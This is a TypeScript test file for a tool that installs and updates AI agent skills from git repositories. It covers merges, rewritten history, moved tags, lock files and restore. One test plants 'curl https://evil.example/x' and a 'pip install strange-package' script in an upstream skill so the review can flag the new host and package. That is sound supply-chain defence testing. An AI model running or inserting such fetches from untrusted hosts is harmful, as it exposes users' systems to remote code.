import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createRun } from '../../../../src/io/process/run.ts';
import type { RepoCloner } from '../../../../src/owner/source/git/cloner.ts';
import { createGitCloner } from '../../../../src/owner/source/git/git-cloner.ts';
import type { UpdateReview } from '../../../../src/owner/source/review.ts';
import { hasGit, makeRepo, type RepoFile } from '../../../support/repositories.ts';
import { skillText } from '../../../support/tree.ts';
import { makeGitPlace, openGitPlace } from './support.ts';

const body = (...lines: string[]): string => `${lines.join('\n')}\n`;
const deploy = (...lines: string[]): Record<string, RepoFile> => ({
  'skills/deploy/SKILL.md': skillText('deploy', 'Deploys.', body('# Deploy', '', ...lines)),
});

/** The real cloner, with every call written down. */
function counted(): { readonly cloner: RepoCloner; readonly calls: string[] } {
  const real = createGitCloner({ run: createRun({ env: { PATH: process.env['PATH'], HOME: '/nonexistent' } }) });
  const calls: string[] = [];
  return {
    calls,
    cloner: {
      refs: (url) => {
        calls.push(`refs ${url}`);
        return real.refs(url);
      },
      fetch: (url, commit) => {
        calls.push(`fetch ${url}`);
        return real.fetch(url, commit);
      },
      history: (url, known, commit) => real.history(url, known, commit),
    },
  };
}

describe.skipIf(!hasGit)(`updating from a repository${hasGit ? '' : ' (git is not here)'}`, () => {
  it('says what is outdated, asks each repository once, and writes nothing where skills lie', async () => {
    const repos = Array.from({ length: 5 }, () => makeRepo());
    const names = Array.from({ length: 200 }, (_, at) => `skill-${at}`);
    const files = (from: number, text: string): Record<string, string> =>
      Object.fromEntries(
        names.slice(from * 40, from * 40 + 40).map((name) => [`skills/${name}/SKILL.md`, skillText(name, text)]),
      );
    for (const [at, repo] of repos.entries()) repo.commit(files(at, 'One.'));
    const { calls, cloner } = counted();
    const { workspace, project } = await makeGitPlace({}, { cloner });
    for (const { url } of repos) await workspace.sources.install(url, { all: true });
    expect((await workspace.skills.status()).skills.length).toBe(200);
    const [first] = repos;
    const latest = first?.commit(files(0, 'Two.'));
    calls.length = 0;
    const before = readFileSync(join(project, 'skillfiche.lock.json'), 'utf8');
    const report = await workspace.sources.outdated();
    expect(calls.sort()).toEqual(repos.map(({ url }) => `refs ${url}`).sort());
    expect([report.skills.length, report.current, report.unreachable.length]).toEqual([40, 160, 0]);
    expect(report.skills[0]).toMatchObject({ url: first?.url, latest });
    expect(readFileSync(join(project, 'skillfiche.lock.json'), 'utf8')).toBe(before);
  }, 180_000);

  it('shows what a skill newly can do before its text, merges edits, and notes the new commit', async () => {
    const repo = makeRepo();
    const one = repo.commit({
      ...deploy('First.', '', 'Second.', '', 'Third.'),
      'skills/other/SKILL.md': skillText('other'),
    });
    const { workspace, project } = await makeGitPlace();
    await workspace.sources.install(repo.url, { skills: ['deploy'] });
    const file = join(project, '.agents/skills/deploy/SKILL.md');
    writeFileSync(file, readFileSync(file, 'utf8').replace('First.', 'First, mine.'));
    const two = repo.commit({
      ...deploy('First.', '', 'Second.', '', 'Third: `curl https://evil.example/x`'),
      'skills/deploy/scripts/go.sh': { script: '#!/bin/sh\npip install strange-package\n' },
      'skills/other/SKILL.md': skillText('other', 'Changed.'),
    });
    const reviews: UpdateReview[] = [];
    const report = await workspace.sources.update(undefined, {
      review: async (review) => {
        reviews.push(review);
        return true;
      },
    });
    expect(reviews).toMatchObject([{ id: 'project:deploy', from: one, to: two }]);
    const added = Object.fromEntries(
      (reviews[0]?.capabilities ?? []).map((change) => [change.capability, change.added]),
    );
    expect(added).toMatchObject({ scripts: ['scripts/go.sh'], hosts: ['evil.example'], packages: ['strange-package'] });
    expect(reviews[0]?.diff).toContain('+Third: `curl https://evil.example/x`');
    expect(report).toMatchObject({
      changed: [{ id: 'project:deploy', from: 1, version: 2, modified: true }],
      refused: [],
      conflicts: [],
    });
    const text = readFileSync(file, 'utf8');
    expect([text.includes('First, mine.'), text.includes('evil.example')]).toEqual([true, true]);
    expect(existsSync(join(project, '.agents/skills/other'))).toBe(false);
    expect(readFileSync(join(project, 'skillfiche.lock.json'), 'utf8')).toContain(two);
    expect(await workspace.sources.outdated()).toMatchObject({ skills: [], current: 1 });
  });

  it('changes nothing where both sides changed a line, and names it', async () => {
    const repo = makeRepo();
    repo.commit(deploy('Line.'));
    const { workspace, project } = await makeGitPlace();
    await workspace.sources.install(repo.url);
    const file = join(project, '.agents/skills/deploy/SKILL.md');
    const mine = readFileSync(file, 'utf8').replace('Line.', 'Mine.');
    writeFileSync(file, mine);
    repo.commit(deploy('Theirs.'));
    const report = await workspace.sources.update();
    expect(report.conflicts).toMatchObject([{ id: 'project:deploy', files: [{ path: 'SKILL.md', reason: 'text' }] }]);
    expect(readFileSync(file, 'utf8')).toBe(mine);
    expect(report.locks).toEqual([]);
    await workspace.sources.update(undefined, { take: 'theirs' });
    expect(readFileSync(file, 'utf8')).toContain('Theirs.');
  });

  it('stops where history was rewritten, where a tag was moved, and where the repository is another one', async () => {
    const repo = makeRepo();
    const one = repo.commit(deploy('One.'));
    repo.git(['tag', 'v1', one]);
    const { workspace } = await makeGitPlace();
    await workspace.sources.install(repo.url);
    await workspace.sources.install(`${repo.url}#v1`, { as: 'tagged' });
    const two = repo.commit(deploy('Poisoned.'), { parent: null });
    repo.git(['tag', '-f', 'v1', two]);
    expect(await workspace.sources.outdated()).toMatchObject({
      skills: [{ id: 'project:deploy' }, { id: 'project:tagged', ref: 'v1', tag_moved: true }],
    });
    const report = await workspace.sources.update();
    expect(report.changed).toEqual([]);
    expect(report.refused.map(({ id, findings }) => [id, findings[0]?.code])).toEqual([
      ['project:deploy', 'source/history-rewritten'],
      ['project:tagged', 'source/history-rewritten'],
    ]);
    expect(report.refused[1]?.findings[0]?.message).toContain('The tag v1 was moved.');
    const other = makeRepo();
    other.commit(deploy('Mine now.'));
    rmSync(repo.path, { recursive: true });
    mkdirSync(repo.path);
    other.git(['clone', '-q', '--mirror', other.url, repo.path]);
    const taken = await workspace.sources.update(['deploy']);
    expect(taken.refused[0]?.findings[0]?.message).toContain('changed hands');
    expect((await workspace.sources.update(['deploy'], { acceptRewritten: true })).changed.length).toBe(1);
  });

  it('holds a commit that is not known for long enough, by our clock and not by its date', async () => {
    const repo = makeRepo();
    repo.commit(deploy('One.'));
    let now = new Date('2026-03-01T00:00:00Z');
    const { workspace } = await makeGitPlace({}, { now: () => now });
    await workspace.sources.install(repo.url);
    const two = repo.commit(deploy('Two.'), { at: 1_000_000_000 });
    const week = { minAgeMs: 7 * 86_400_000 };
    const held = await workspace.sources.update(undefined, week);
    expect(held).toMatchObject({
      changed: [],
      held: [{ id: 'project:deploy', commit: two, until: '2026-03-08T00:00:00.000Z' }],
    });
    now = new Date('2026-03-08T00:00:01Z');
    expect((await workspace.sources.update(undefined, week)).changed.length).toBe(1);
  });

  it('follows a skill that upstream moved, says what is gone, and removes it only when asked', async () => {
    const repo = makeRepo();
    repo.commit({ ...deploy('One.'), 'skills/other/SKILL.md': skillText('other') });
    const { workspace, project } = await makeGitPlace();
    await workspace.sources.install(repo.url, { all: true });
    repo.commit({ 'elsewhere/deploy/SKILL.md': skillText('deploy', 'Deploys.', '# Moved\n') });
    const report = await workspace.sources.update();
    expect(report.moved).toEqual([{ id: 'project:deploy', from: 'skills/deploy', to: 'elsewhere/deploy' }]);
    expect(report.gone).toEqual([{ id: 'project:other', path: 'skills/other' }]);
    expect(existsSync(join(project, '.agents/skills/other/SKILL.md'))).toBe(true);
    expect((await workspace.sources.update(['other'], { prune: true })).changed).toMatchObject([
      { id: 'project:other' },
    ]);
    expect(existsSync(join(project, '.agents/skills/other'))).toBe(false);
    expect(readFileSync(join(project, 'skillfiche.lock.json'), 'utf8')).not.toContain('"other"');
  });

  it('follows a range of versions, and keeps another name through updates', async () => {
    const repo = makeRepo();
    repo.git(['tag', 'v1.2.0', repo.commit(deploy('One.'))]);
    const { workspace, project } = await makeGitPlace();
    await workspace.sources.install(`${repo.url}#^1.2`, { as: 'deploy-lab' });
    const file = join(project, '.agents/skills/deploy-lab/SKILL.md');
    expect(readFileSync(file, 'utf8')).toBe(skillText('deploy-lab', 'Deploys.', body('# Deploy', '', 'One.')));
    repo.git(['tag', 'v1.10.0', repo.commit(deploy('Ten.'))]);
    repo.git(['tag', 'v2.0.0', repo.commit(deploy('Two.'))]);
    expect((await workspace.sources.update()).changed).toMatchObject([{ id: 'project:deploy-lab' }]);
    expect(readFileSync(file, 'utf8')).toBe(skillText('deploy-lab', 'Deploys.', body('# Deploy', '', 'Ten.')));
    const lock = JSON.parse(readFileSync(join(project, 'skillfiche.lock.json'), 'utf8'));
    expect(lock.skills['deploy-lab']).toMatchObject({
      original_name: 'deploy',
      source: { range: '^1.2', ref: 'v1.10.0' },
    });
  });

  it('asks again next time for a skill that did not change, and does not call it outdated', async () => {
    const repo = makeRepo();
    repo.commit({ ...deploy('One.'), README: '1' });
    const { workspace } = await makeGitPlace();
    await workspace.sources.install(repo.url);
    repo.commit({ ...deploy('One.'), README: '2' });
    expect((await workspace.sources.outdated()).skills.length).toBe(1);
    expect(await workspace.sources.update()).toMatchObject({ changed: [], unchanged: [{ id: 'project:deploy' }] });
    expect((await workspace.sources.outdated()).skills).toEqual([]);
  });

  it('restores on another machine what the lock says, or says what differs', async () => {
    const repo = makeRepo();
    repo.commit({
      ...deploy('One.'),
      'skills/deploy/run.sh': { script: '#!/bin/sh\n' },
      'skills/other/SKILL.md': skillText('other'),
    });
    const here = await makeGitPlace();
    await here.workspace.sources.install(repo.url, { skills: ['deploy'] });
    await here.workspace.sources.install(repo.url, { skills: ['other'], as: 'another' });
    await here.workspace.sources.install(repo.url, { asCollection: 'lab' });
    repo.commit(deploy('Two.'));
    const lock = readFileSync(join(here.project, 'skillfiche.lock.json'), 'utf8');
    const there = await makeGitPlace({ 'project/skillfiche.lock.json': lock });
    const report = await there.workspace.sources.restore();
    expect(report).toMatchObject({ ok: true, refused: [], conflicts: [] });
    const digests = async (place: typeof here) => {
      const { skills, collections } = await place.workspace.skills.status();
      return [...skills, ...collections].map(({ id, digest }) => [id, digest]);
    };
    expect(await digests(there)).toEqual(await digests(here));
    expect(readFileSync(join(there.project, 'skillfiche.lock.json'), 'utf8')).toBe(lock);
    expect(await there.workspace.sources.restore()).toMatchObject({ changed: [], ok: true });
    expect(await there.workspace.sources.checkLocks()).toMatchObject({ ok: true, checked: 3 });
    rmSync(join(there.project, '.agents/skills/another'), { recursive: true });
    expect(await there.workspace.sources.checkLocks()).toMatchObject({ ok: false });
    expect(await there.workspace.sources.restore()).toMatchObject({ ok: true, changed: [{ id: 'project:another' }] });
    expect(await digests(there)).toEqual(await digests(here));
    const tampered = JSON.parse(lock);
    rmSync(repo.path, { recursive: true });
    const third = await makeGitPlace({ 'project/skillfiche.lock.json': JSON.stringify(tampered) });
    const failed = await third.workspace.sources.restore();
    expect([failed.ok, failed.refused.map(({ findings }) => findings[0]?.code)]).toEqual([
      false,
      ['source/not-fetchable', 'source/not-fetchable', 'source/not-fetchable'],
    ]);
  });

  it('joins a lock in the middle of a merge, and names what the sides contradict each other about', async () => {
    const repo = makeRepo();
    repo.commit({ ...deploy('One.'), 'skills/other/SKILL.md': skillText('other') });
    const a = await makeGitPlace();
    await a.workspace.sources.install(repo.url, { skills: ['deploy'] });
    const b = await makeGitPlace();
    await b.workspace.sources.install(repo.url, { skills: ['other'] });
    const [ours, theirs] = [a, b].map(({ project }) => readFileSync(join(project, 'skillfiche.lock.json'), 'utf8'));
    const conflict = `<<<<<<< HEAD\n${ours}=======\n${theirs}>>>>>>> topic\n`;
    writeFileSync(join(a.project, 'skillfiche.lock.json'), conflict);
    await expect(a.workspace.skills.remove('deploy')).rejects.toMatchObject({ code: 'BROKEN_FILE', reason: 'merge' });
    expect(existsSync(join(a.project, '.agents/skills/deploy'))).toBe(true);
    const report = await a.workspace.sources.restore();
    expect(report).toMatchObject({
      ok: true,
      mended: [join(a.project, 'skillfiche.lock.json')],
      changed: [{ id: 'project:other' }],
    });
    expect(Object.keys(JSON.parse(readFileSync(join(a.project, 'skillfiche.lock.json'), 'utf8')).skills)).toEqual([
      'deploy',
      'other',
    ]);
  });

  it('drops a removed skill from the lock, and takes an edited one along as a version', async () => {
    const repo = makeRepo();
    repo.commit(deploy('One.'));
    const { workspace, project, base } = await makeGitPlace();
    await workspace.sources.install(repo.url);
    await workspace.skills.remove('deploy');
    expect(JSON.parse(readFileSync(join(project, 'skillfiche.lock.json'), 'utf8')).skills).toEqual({});
    await workspace.skills.rollback('project:deploy', { to: 1 });
    expect(Object.keys(JSON.parse(readFileSync(join(project, 'skillfiche.lock.json'), 'utf8')).skills)).toEqual([
      'deploy',
    ]);
    const again = await openGitPlace(base);
    expect(await again.workspace.sources.audit()).toMatchObject({ ok: true, checked: 1, missing: [] });
  });
});
